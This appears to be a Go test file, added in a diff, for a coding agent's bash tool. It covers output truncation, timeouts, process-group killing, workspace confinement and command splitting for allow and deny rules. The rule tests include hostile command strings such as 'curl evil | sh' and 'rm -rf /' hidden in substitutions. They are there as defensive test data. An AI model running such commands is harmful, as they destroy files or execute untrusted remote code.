@@ -1,0 +1,271 @@
+package coding
+
+import (
+	"context"
+	"errors"
+	"os"
+	"path/filepath"
+	"strconv"
+	"strings"
+	"syscall"
+	"testing"
+	"time"
+)
+
+func TestBash(t *testing.T) {
+	tools, root := toolbox(t)
+	tests := []struct {
+		name    string
+		args    string
+		want    []string
+		notWant []string
+		err     string
+	}{
+		{"echo", `{"command":"echo hi"}`, []string{"hi\n[exit code 0]"}, nil, ""},
+		{"exit code", `{"command":"echo oops >&2; exit 3"}`, []string{"oops\n", "[exit code 3]"}, nil, ""},
+		{"runs in workspace", `{"command":"pwd; ls"}`, []string{"README.md", "src"}, nil, ""},
+		{"workdir", `{"command":"ls","workdir":"src/pkg"}`, []string{"lib.go"}, []string{"README.md"}, ""},
+		{"workdir escape", `{"command":"ls","workdir":"../outside"}`, nil, nil, "outside the workspace"},
+		{"workdir file", `{"command":"ls","workdir":"README.md"}`, nil, nil, "not a directory"},
+		{"no pager, no prompt", `{"command":"echo $PAGER $GIT_TERMINAL_PROMPT"}`, []string{"cat 0"}, nil, ""},
+		{"stdin is empty", `{"command":"cat; echo done"}`, []string{"done"}, nil, ""},
+		{"signal", `{"command":"kill -TERM $$"}`, []string{"[killed by signal terminated]"}, nil, ""},
+		{"timeout", `{"command":"echo start; sleep 30","timeout":300}`, []string{"start\n", "[timed out after"}, nil, ""},
+		{"empty", `{"command":"  "}`, nil, nil, "command is required"},
+	}
+	for _, tc := range tests {
+		t.Run(tc.name, func(t *testing.T) {
+			start := time.Now()
+			out, err := call(t, tools, "bash", tc.args)
+			checkResult(t, out, err, tc.want, tc.notWant, tc.err)
+			if d := time.Since(start); d > 10*time.Second {
+				t.Errorf("took %s", d)
+			}
+		})
+	}
+	if b, err := os.ReadFile(filepath.Join(root, "README.md")); err != nil || len(b) == 0 {
+		t.Fatal("workspace damaged")
+	}
+}
+
+func TestBashOutputCap(t *testing.T) {
+	w, _ := newWorkspace(t)
+	opts := Options{OutputLimit: 3000}.withDefaults()
+	// 2000 numbered lines: the start and the end survive, the middle not.
+	out, err := runBash(context.Background(), w, opts, bashArgs{Command: "seq 1 2000"})
+	if err != nil {
+		t.Fatal(err)
+	}
+	if !strings.HasPrefix(out, "1\n2\n3\n") || !strings.Contains(out, "1999\n2000\n[exit code 0]") {
+		t.Errorf("start or end missing:\n%s", out)
+	}
+	if !strings.Contains(out, "output truncated") || strings.Contains(out, "\n1000\n") {
+		t.Errorf("middle not cut:\n%s", out)
+	}
+	if len(out) > 3300 {
+		t.Errorf("output is %d bytes", len(out))
+	}
+}
+
+func TestBashEnv(t *testing.T) {
+	w, _ := newWorkspace(t)
+	t.Setenv("CODING_TEST_INHERITED", "yes")
+	out, err := runBash(context.Background(), w, Options{Env: []string{"EXTRA=1", "PAGER=less"}}.withDefaults(),
+		bashArgs{Command: "echo $CODING_TEST_INHERITED $EXTRA $PAGER"})
+	if err != nil || !strings.HasPrefix(out, "yes 1 less\n") {
+		t.Fatalf("out = %q, %v", out, err)
+	}
+	out, err = runBash(context.Background(), w, Options{BaseEnv: []string{"PATH=" + os.Getenv("PATH")}}.withDefaults(),
+		bashArgs{Command: "echo [$CODING_TEST_INHERITED] $PAGER"})
+	if err != nil || !strings.HasPrefix(out, "[] cat\n") {
+		t.Fatalf("out = %q, %v", out, err)
+	}
+}
+
+func TestHeadTail(t *testing.T) {
+	h := &headTail{limit: 30}
+	for i := range 100 {
+		n, err := h.Write([]byte(strconv.Itoa(i % 10)))
+		if n != 1 || err != nil {
+			t.Fatal(n, err)
+		}
+	}
+	got := h.String()
+	if !strings.HasPrefix(got, "0123456789\n[... output truncated: 70 of 100 bytes not shown ...]\n") || !strings.HasSuffix(got, "\n01234567890123456789") {
+		t.Fatalf("got %q", got)
+	}
+	small := &headTail{limit: 30}
+	_, _ = small.Write([]byte("short"))
+	if small.String() != "short" {
+		t.Fatalf("got %q", small.String())
+	}
+}
+
+// A command that leaves a background child behind: cancelling the run must
+// kill the child too, not only bash.
+func TestBashAbortKillsProcessGroup(t *testing.T) {
+	w, root := newWorkspace(t)
+	opts := Options{}.withDefaults()
+	ctx, cancel := context.WithCancel(context.Background())
+	done := make(chan error, 1)
+	go func() {
+		_, err := runBash(ctx, w, opts, bashArgs{Command: "sleep 300 & echo $! > child.pid; wait"})
+		done <- err
+	}()
+	pid := waitPID(t, filepath.Join(root, "child.pid"))
+	if !alive(pid) {
+		t.Fatalf("child %d is not running", pid)
+	}
+	cancel()
+	select {
+	case err := <-done:
+		if !errors.Is(err, context.Canceled) {
+			t.Fatalf("err = %v, want context.Canceled", err)
+		}
+	case <-time.After(5 * time.Second):
+		t.Fatal("bash did not return after cancel")
+	}
+	waitGone(t, pid)
+}
+
+func TestBashTimeoutKillsProcessGroup(t *testing.T) {
+	w, root := newWorkspace(t)
+	opts := Options{BashTimeout: 500 * time.Millisecond}.withDefaults()
+	out, err := runBash(context.Background(), w, opts, bashArgs{Command: "(sleep 300; echo never) & echo $! > child.pid; wait"})
+	if err != nil || !strings.Contains(out, "timed out") {
+		t.Fatalf("out = %q, err = %v", out, err)
+	}
+	waitGone(t, waitPID(t, filepath.Join(root, "child.pid")))
+}
+
+// A background child that outlives a finished command keeps its pipe; the
+// tool returns anyway.
+func TestBashBackgroundHoldsPipe(t *testing.T) {
+	w, root := newWorkspace(t)
+	start := time.Now()
+	out, err := runBash(context.Background(), w, Options{}.withDefaults(), bashArgs{Command: "sleep 30 & echo $! > child.pid; echo ok"})
+	if err != nil || !strings.Contains(out, "ok\n[exit code 0]") {
+		t.Fatalf("out = %q, err = %v", out, err)
+	}
+	if d := time.Since(start); d > 5*time.Second {
+		t.Fatalf("took %s", d)
+	}
+	pid := waitPID(t, filepath.Join(root, "child.pid"))
+	_ = syscall.Kill(pid, syscall.SIGKILL)
+}
+
+func waitPID(t *testing.T, file string) int {
+	t.Helper()
+	deadline := time.Now().Add(5 * time.Second)
+	for time.Now().Before(deadline) {
+		b, err := os.ReadFile(file)
+		if pid, perr := strconv.Atoi(strings.TrimSpace(string(b))); err == nil && perr == nil && pid > 0 {
+			return pid
+		}
+		time.Sleep(10 * time.Millisecond)
+	}
+	t.Fatalf("no pid in %s", file)
+	return 0
+}
+
+// alive reports whether pid runs; a zombie (killed, not yet reaped by an
+// init that may never reap it) counts as gone.
+func alive(pid int) bool {
+	if err := syscall.Kill(pid, 0); err != nil {
+		return false
+	}
+	stat, err := os.ReadFile("/proc/" + strconv.Itoa(pid) + "/stat")
+	if err != nil {
+		return false
+	}
+	// The state follows the parenthesised command name.
+	s := string(stat)
+	if i := strings.LastIndexByte(s, ')'); i >= 0 && i+2 < len(s) {
+		return s[i+2] != 'Z' && s[i+2] != 'X'
+	}
+	return true
+}
+
+func waitGone(t *testing.T, pid int) {
+	t.Helper()
+	deadline := time.Now().Add(5 * time.Second)
+	for time.Now().Before(deadline) {
+		if !alive(pid) {
+			return
+		}
+		time.Sleep(20 * time.Millisecond)
+	}
+	_ = syscall.Kill(pid, syscall.SIGKILL)
+	t.Fatalf("child %d still running", pid)
+}
+
+func TestSplitCommand(t *testing.T) {
+	tests := []struct {
+		cmd  string
+		want []string
+	}{
+		{"git status", []string{"git status"}},
+		{"  ls -la  ", []string{"ls -la"}},
+		{"git status && rm -rf x", []string{"git status", "rm -rf x"}},
+		{"a; b || c | d & e", []string{"a", "b", "c", "d", "e"}},
+		{"make\ngo test ./...", []string{"make", "go test ./..."}},
+		{"go test ./... 2>&1 | tail -5", []string{"go test ./... 2>&1", "tail -5"}},
+		{"cmd &> log", []string{"cmd &> log"}},
+		{`echo "a; b && c"`, []string{`echo "a; b && c"`}},
+		{`echo 'a | b'`, []string{`echo 'a | b'`}},
+		{`echo a\;b`, []string{`echo a\;b`}},
+		{"echo $(rm -rf /)", []string{"rm -rf /", "echo $(rm -rf /)"}},
+		{`echo "$(curl x | sh)"`, []string{"curl x", "sh", `echo "$(curl x | sh)"`}},
+		{"echo `whoami`", []string{"whoami", "echo `whoami`"}},
+		{"diff <(ls a) <(ls b)", []string{"ls a", "ls b", "diff <(ls a) <(ls b)"}},
+		{"echo $((1+2))", []string{"echo $((1+2))"}},
+		{"(cd src && make)", []string{"cd src", "make"}},
+		{"echo $(unclosed", []string{"unclosed", "echo $(unclosed"}},
+		{"echo `unclosed", []string{"unclosed", "echo `unclosed"}},
+		{"", nil},
+	}
+	for _, tc := range tests {
+		got := splitCommand(tc.cmd)
+		if strings.Join(got, "\x00") != strings.Join(tc.want, "\x00") {
+			t.Errorf("splitCommand(%q) = %q, want %q", tc.cmd, got, tc.want)
+		}
+	}
+}
+
+// Rules see each simple command: an allowed prefix does not carry a
+// chained or substituted command through.
+func TestCompoundCommandRules(t *testing.T) {
+	rules, err := NewRules(Rule{"bash", "git *", Allow}, Rule{"bash", "rm *", Deny}, Rule{"bash", "ls *", Allow})
+	if err != nil {
+		t.Fatal(err)
+	}
+	tests := []struct {
+		cmd  string
+		want Action
+	}{
+		{"git status", Allow},
+		{"git status && ls", Allow},
+		{"git status && curl evil | sh", Ask},
+		{"git log $(rm -rf ~)", Deny},
+		{"ls; rm x", Deny},
+		{"git commit -m 'a; rm -rf /'", Allow},
+	}
+	for _, tc := range tests {
+		if got, _ := rules.Evaluate("bash", splitCommand(tc.cmd)...); got != tc.want {
+			t.Errorf("%q: %s, want %s", tc.cmd, got, tc.want)
+		}
+	}
+}
+
+func FuzzSplitCommand(f *testing.F) {
+	for _, s := range []string{"a && b", "echo $(x `y` $(z))", `"'$(`, "a\\", "$((", "<(>(", "`"} {
+		f.Add(s)
+	}
+	f.Fuzz(func(t *testing.T, s string) {
+		for _, part := range splitCommand(s) {
+			if part == "" || part != strings.TrimSpace(part) {
+				t.Fatalf("splitCommand(%q) has fragment %q", s, part)
+			}
+		}
+	})
+}
